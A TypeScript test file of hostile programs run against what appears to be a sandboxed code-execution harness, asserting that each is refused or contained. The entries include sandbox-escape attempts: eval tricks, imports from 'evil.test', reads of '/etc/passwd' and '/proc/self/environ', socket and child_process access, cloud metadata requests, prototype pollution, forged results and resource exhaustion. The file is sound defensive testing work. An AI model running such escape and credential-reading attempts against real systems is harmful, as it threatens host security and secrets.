import { expect } from "vitest";
import { body, contained, fails, gives, type Hostile, refused } from "./hostile.ts";

const AFTER = "return (await env.files.exists('/workspace/output/none')) === false;";
/** Whatever becomes of the run, it is its own doing and never the host's. */
const CONTAINED = fails(
	"program_threw",
	"never_settled",
	"wall_time_exceeded",
	"result_not_serializable",
	"invalid_program",
	"cpu_exceeded",
);

/** Sections E and F: code from text, modules, the runtime's surface, tampering with the harness, other runs. */
export const HOSTILE_SURFACE: readonly Hostile[] = [
	{
		name: "E01 makes code from text",
		program: body(
			"const said = []; for (const f of [() => eval('1'), () => new Function('return 1')(), () => (async () => {}).constructor('return 1')(), () => (function* () {}).constructor('yield 1')(), () => setTimeout('globalThis.x = 1', 0)]) { try { f(); said.push('made'); } catch (e) { said.push(e.name); } } return said.slice(0, 4);",
		),
		ends: gives(Array(4).fill("EvalError")),
	},
	{
		name: "E02 imports a URL",
		program: "import x from 'https://evil.test/x.js'; export default () => x;",
		ends: refused(/imports "https:\/\/evil\.test/),
	},
	{
		name: "E02 imports data",
		program: "import x from 'data:text/javascript,export default 1'; export default () => x;",
		ends: refused(/no such module/),
	},
	{
		name: "E03 imports whatever it can name",
		program: body(
			"const got = []; for (const s of ['node:fs', 'fs', 'workerd:unsafe', 'file:///etc/passwd', 'https://evil.test/', 'data:text/javascript,export default 1', '../../secret.js', './main.js?x', './%2e%2e/harness.js']) { try { await import(s); got.push(s); } catch {} } return got;",
		),
		ends: gives([]),
	},
	{
		name: "E03 takes bindings out of cloudflare:workers",
		program: body(
			"const name = ['cloudflare', 'workers'].join(':'); try { const w = await import(name); const all = [w.env, w.exports].flatMap((o) => o ? Object.keys(o) : []); return all; } catch { return []; }",
		),
		ends: gives([]),
	},
	{
		name: "E03 imports the harness and runs another program in it",
		program: body(
			"for (const s of ['../harness.js', 'harness.js', '/harness.js']) { try { const h = await import(s); const o = Object.create(h.default.prototype); await o.run('{}'); } catch {} } return 1;",
		),
		ends: gives(1),
	},
	{
		name: "E03 imports the harness's parts and breaks them",
		program: body(
			"for (const s of ['../codec.js', '../primordials.js', '../failures.js', 'primordials.js', 'codec.js']) { try { const m = await import(s); for (const k of Object.keys(m)) { try { m[k] = () => 'forged'; } catch {} try { Object.setPrototypeOf(m[k], null); } catch {} } } catch {} } return 1;",
		),
		ends: gives(1),
	},
	...["harness.js", "../harness.js", "__proto__", "cloudflare:workers", "node:fs", "constructor", "/main.js", "a/../../x.js"].map(
		(name): Hostile => ({
			name: `E04 brings a module called ${name}`,
			program: { main: name, modules: JSON.parse(`{${JSON.stringify(name)}: "export default () => 1"}`) },
			ends: name === "harness.js" ? gives(1) : refused(/Naming a module|of this name/),
		}),
	),
	{
		name: "E03 opens a socket, and asks the process, with what the runtime lets it import",
		program: body(
			"const got = []; try { const { connect } = await import(['cloudflare', 'sockets'].join(':')); const s = connect('127.0.0.1:' + input.upstream.split(':')[1]); await s.opened; got.push('opened'); } catch {} try { const { default: p } = await import(['node', 'process'].join(':')); got.push(...Object.keys(p.env)); for (const m of ['fs', 'net', 'child_process', 'module', 'vm', 'worker_threads', 'inspector']) if (p.getBuiltinModule('node:' + m) !== undefined) got.push(m); } catch {} return got;",
		),
		ends: gives([]),
	},
	{ name: "E05 closes the wrapper", program: "})(); globalThis.x = 1; (async () => { export default () => 1;", ends: refused(/Compiling/) },
	{
		name: "E06 looks for Node",
		program: body(
			"return [typeof process, typeof Buffer, typeof require, typeof module, typeof Deno, typeof Bun, typeof __dirname].filter((t) => t !== 'undefined');",
		),
		ends: gives([]),
	},
	{
		name: "E08 aborts its isolate",
		program: body("const { abortIsolate } = await import(['cloudflare', 'workers'].join(':')); abortIsolate('bye'); return 1;"),
		ends: CONTAINED,
	},
	{
		name: "E09 reads call sites",
		program: body(
			"Error.prepareStackTrace = (e, sites) => sites.map((s) => [String(s.getThis()), String(s.getFunction()), s.getFileName()]); const s = new Error('x').stack; return Array.isArray(s) ? s.flat().filter((t) => t !== 'undefined' && !/program|harness|main/.test(t)).length : 0;",
		),
		ends: gives(0),
	},
	{
		name: "E10 makes Wasm from bytes",
		program: body(
			"try { await WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); return 'made'; } catch (e) { return e.name; }",
		),
		ends: gives("CompileError"),
	},
	{
		name: "E11 hides words from a filter",
		program: "export default async (input, env) => { try { return (0, \\u0065val)('1'); } catch (e) { return e.name; } };",
		ends: gives("EvalError"),
	},
	{
		name: "E12 plays TypeScript tricks",
		language: "typescript",
		program:
			'/// <reference path="/etc/passwd" />\nenum A { B = 1 }\nnamespace N { export const x = 1; }\nexport default async () => [A.B];',
		ends: gives([1]),
	},
	{
		name: "E13 patches call and apply",
		program: body(
			`Function.prototype.call = Function.prototype.apply = Function.prototype.bind = () => { throw new Error('patched'); }; Reflect.apply = () => 'forged'; ${AFTER}`,
		),
		ends: gives(true),
	},
	{
		name: "E13 patches JSON",
		program: body(`JSON.parse = () => ({ kind: 'value', value: '"forged"' }); JSON.stringify = () => '{"forged":1}'; ${AFTER}`),
		ends: gives(true),
	},
	{
		name: "E13 patches Promise",
		program: body(
			`const P = Promise; P.prototype.then = function () { return this; }; globalThis.Promise = class {}; P.resolve = () => 1; return 7;`,
		),
		ends: gives(7),
	},
	{
		name: "E13 patches strings and arrays",
		program: body(
			`for (const p of [String.prototype, Array.prototype, Object.prototype, Map.prototype, RegExp.prototype, Number.prototype]) for (const k of Reflect.ownKeys(p)) { if (k === 'constructor' || k === '__proto__') continue; try { Object.defineProperty(p, k, { value: () => { throw new Error('patched'); } }); } catch {} } return 1;`,
		),
		ends: contained("program_threw"),
	},
	{
		name: "E13 patches everything that it can reach",
		program: body(
			'const seen = new Set(); const walk = (o, d) => { if (o === null || (typeof o !== \'object\' && typeof o !== \'function\') || seen.has(o) || d > 3) return; seen.add(o); for (const k of Reflect.ownKeys(o)) { let v; try { v = o[k]; } catch { continue; } walk(v, d + 1); if (typeof v === \'function\') try { o[k] = () => \'{"outcome":{"kind":"returned","result":"forged"}}\'; } catch {} } }; walk(globalThis, 0); return 1;',
		),
		ends: contained("program_threw", "never_settled", "cpu_exceeded", "result_not_serializable"),
		limits: { cpuMs: 3_000 },
	},
	{
		name: "E14 pollutes the prototype",
		program: body(
			`for (const k of ['then', 'toJSON', 'kind', 'code', 'message', 'outcome', 'value', 'get', 'set', 'polluted', '0', 'length', 'enumerable', 'body', 'redirect', 'grant']) Object.defineProperty(Object.prototype, k, { __proto__: null, get() { return 'polluted'; }, set() {}, configurable: true }); return env.files.exists('/workspace/output/none').catch((e) => 'threw ' + e.code);`,
		),
		ends: gives(false),
	},
	{
		name: "E14 makes every object a thenable",
		program: body("Object.prototype.then = function (resolve) { resolve('forged'); }; return 1;"),
		ends: gives(1),
	},
	{
		name: "E15 overrides species and iterators",
		program: body(
			`Object.defineProperty(Array, Symbol.species, { value: class { constructor() { throw 1; } } }); Array.prototype[Symbol.iterator] = function* () { yield 'forged'; }; Object.prototype[Symbol.toPrimitive] = () => 'forged'; ${AFTER}`,
		),
		ends: gives(true),
	},
	{
		name: "E17 exports other entrypoints",
		program:
			"export class Other { fetch() {} } export const fetch = () => 1, scheduled = () => 1, tail = () => 1, queue = () => 1; export default async () => 2;",
		ends: gives(2),
	},
	{
		name: "E18 takes the runtime's transports",
		program: body(
			"return ['WebSocket', 'EventSource', 'caches', 'Cloudflare', 'navigator', 'XMLHttpRequest', 'Worker', 'importScripts', 'connect'].filter((name) => { try { return typeof globalThis[name] !== 'undefined' && name !== 'navigator'; } catch { return false; } });",
		),
		ends: gives([]),
	},
	{
		name: "E18 reaches the runtime's own fetch",
		program: body(
			"const tries = [() => fetch('http://127.0.0.1:1/'), () => Reflect.getPrototypeOf(globalThis).fetch?.('http://127.0.0.1:1/'), () => new Request('http://127.0.0.1:1/').constructor.prototype.fetch?.()]; const got = []; for (const t of tries) { try { const r = await t(); got.push(r === undefined ? 'nothing' : 'reached'); } catch (e) { got.push('refused'); } } return got.includes('reached');",
		),
		ends: gives(false),
	},
	{
		name: "E19 takes this",
		program:
			"export default async function (input, env) { return [this === undefined, typeof arguments.length, arguments.length, Object.isFrozen(env), Object.getPrototypeOf(env)]; }",
		ends: gives([true, "number", 2, true, null]),
	},
	{
		name: "E20 takes the caller",
		program: "export default function f() { try { return String(f.caller); } catch (e) { return e.name; } }",
		ends: gives("TypeError"),
	},
	{
		name: "E21 forges the answer by ending early",
		program: body(
			'Promise.prototype.then = function (a) { a?.(\'{"outcome":{"kind":"returned","result":"forged"},"logs":[],"logsDropped":0}\'); return this; }; await null; return \'mine\';',
		),
		ends: gives("mine"),
	},
	{
		name: "E22 calls grants by odd names",
		program: body(
			"const got = []; for (const g of ['constructor', '__proto__', 'toString', 'hasOwnProperty', 'web2', '']) got.push(env[g] === undefined); for (const m of ['fetchAny', 'call', 'constructor', '__proto__', 'toString', 'then', 'dup', 'fetch']) got.push(env.files[m] === undefined); return got.every(Boolean);",
		),
		ends: gives(true),
	},
	{
		name: "E23 replaces its grants",
		program: body(
			"'use strict'; const got = []; for (const f of [() => { env.files = 1; }, () => { env.files.readText = 1; }, () => { delete env.files; }, () => { env.more = 1; }, () => Object.setPrototypeOf(env, {})]) { try { f(); got.push('done'); } catch (e) { got.push(e.name); } } return got;",
		),
		ends: gives(["TypeError", "TypeError", "TypeError", "TypeError", "TypeError"]),
	},
	{
		name: "E24 duplicates a stub",
		program: body(
			"return [typeof env.files.dup, typeof env.files[Symbol.dispose], typeof env.files.readText.dup, typeof structuredClone];",
		),
		ends: gives(["undefined", "undefined", "undefined", "function"]),
	},
	{
		name: "F01 leaves something in the global object",
		program: body(
			"const before = Object.keys(globalThis).filter((n) => n.startsWith('hostile')); globalThis.hostileMark = 1; return before;",
		),
		ends: gives([]),
	},
	{
		name: "F01 looks for what was left there",
		program: body(
			"const before = Object.keys(globalThis).filter((n) => n.startsWith('hostile')); globalThis.hostileMark = 2; return before;",
		),
		ends: gives([]),
	},
	{
		name: "F04 leaves timers and streams behind",
		program: body(
			"for (let i = 0; i < 100; i++) setInterval(() => { for (let j = 0; j < 1e5; j++); }, 1); new ReadableStream({ async pull(c) { c.enqueue(1); } }).pipeTo(new WritableStream()).catch(() => {}); return 1;",
		),
		ends: contained("cpu_exceeded"),
	},
	{ name: "F04 goes on looping after its answer", program: body("setTimeout(() => { for (;;); }, 1); return 1;"), ends: gives(1) },
	{
		name: "F04 goes on filling memory after its answer",
		program: body("const a = []; const f = () => { a.push(new Uint8Array(8 << 20).fill(1)); setTimeout(f, 0); }; f(); return 1;"),
		ends: gives(1),
	},
	{
		name: "F09 looks for files of the host",
		program: body(
			"const got = []; for (const p of ['/proc/self/environ', '/etc/passwd', '/workspace/../etc/passwd']) got.push(await env.files.readText(p).then(() => 'read', (e) => e.code)); return got;",
		),
		ends: gives(Array(3).fill("file_denied")),
	},
	{
		name: "H03 asks for the cloud's metadata",
		program: body("return env.web.fetch('http://169.254.169.254/latest/meta-data/').catch((e) => e.code);"),
		ends: gives("egress_denied"),
		also: (run) => expect(run.usage.egressBytes).toBe(0),
	},
];
